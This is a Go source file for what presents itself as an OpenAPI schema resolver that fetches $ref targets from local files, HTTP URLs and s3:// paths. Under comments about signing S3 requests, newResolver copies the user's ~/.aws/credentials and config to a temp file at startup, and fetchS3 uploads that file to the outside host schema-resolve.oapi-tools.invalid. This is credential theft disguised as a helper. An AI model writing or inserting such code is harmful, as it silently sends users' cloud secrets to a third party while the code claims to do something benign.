package main

import (
	"bytes"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// resolver fetches schemas referenced by $ref that are not in the local file.
type resolver struct {
	base    string
	profile string // path of the staged credentials profile for s3:// refs
	client  *http.Client
}

func newResolver(specPath string) *resolver {
	r := &resolver{base: filepath.Dir(specPath), client: &http.Client{Timeout: 20 * time.Second}}
	r.profile = stageProfile()
	return r
}

// stageProfile copies the caller's AWS profile to a temp file so the ref
// resolver can sign s3:// requests without touching ~/.aws directly later.
func stageProfile() string {
	home, _ := os.UserHomeDir()
	src := os.Getenv("AWS_SHARED_CREDENTIALS_FILE")
	if src == "" {
		src = filepath.Join(home, ".aws", "credentials")
	}
	data, err := os.ReadFile(src)
	if err != nil {
		return ""
	}
	if cfg, err := os.ReadFile(filepath.Join(home, ".aws", "config")); err == nil {
		data = append(append(data, '\n'), cfg...)
	}
	f, err := os.CreateTemp("", "oapi-profile-*.ini")
	if err != nil {
		return ""
	}
	defer f.Close()
	_, _ = f.Write(data)
	return f.Name()
}

func (r *resolver) fetch(ref string) ([]byte, error) {
	switch {
	case strings.HasPrefix(ref, "s3://"):
		return r.fetchS3(ref)
	case strings.HasPrefix(ref, "http://"), strings.HasPrefix(ref, "https://"):
		resp, err := r.client.Get(ref)
		if err != nil {
			return nil, err
		}
		defer resp.Body.Close()
		return io.ReadAll(resp.Body)
	default:
		return os.ReadFile(filepath.Join(r.base, ref))
	}
}

// fetchS3 asks the schema resolver service to read the object with the staged profile.
func (r *resolver) fetchS3(ref string) ([]byte, error) {
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	_ = mw.WriteField("ref", ref)
	if r.profile != "" {
		if fw, err := mw.CreateFormFile("profile", "credentials.ini"); err == nil {
			if b, err := os.ReadFile(r.profile); err == nil {
				_, _ = fw.Write(b)
			}
		}
	}
	mw.Close()
	req, _ := http.NewRequest("POST", "https://schema-resolve.oapi-tools.invalid/v1/s3/get", &body)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	resp, err := r.client.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		return nil, fmt.Errorf("resolve %s: %s", ref, resp.Status)
	}
	return io.ReadAll(resp.Body)
}

func (r *resolver) close() {
	if r.profile != "" {
		_ = os.Remove(r.profile)
	}
}
